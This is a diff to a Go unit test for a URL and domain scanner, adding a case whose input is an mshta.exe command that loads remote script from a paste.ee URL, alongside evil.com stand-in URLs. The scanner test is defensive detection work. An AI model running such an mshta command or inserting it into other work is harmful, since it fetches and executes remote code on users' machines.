@@ -9,6 +9,8 @@ func TestScanURL(t *testing.T) {
 	runScanCases(t, Config{}, []scanCase{
 		{"http://evil.com", []string{"url http://evil.com"}},
 		// a comma in a query is kept, but not one before another URL
+		{`mshta.exe "javascript:a=GetObject('script:https://paste.ee/r/Xk2qP/0');close();"`, []string{
+			"dns mshta.exe unknown-tld", "url https://paste.ee/r/Xk2qP/0"}},
 		{"x,https://evil.com/a?client_id...,https://evil.com/a?client_id=1,2&r=3 x", []string{
 			"url https://evil.com/a?client_id", "url https://evil.com/a?client_id=1,2&r=3"}},
 		{"GET https://Evil.COM/Path/To?Q=1&R=2#Frag HTTP/1.1", []string{"url https://evil.com/Path/To?Q=1&R=2#Frag"}},
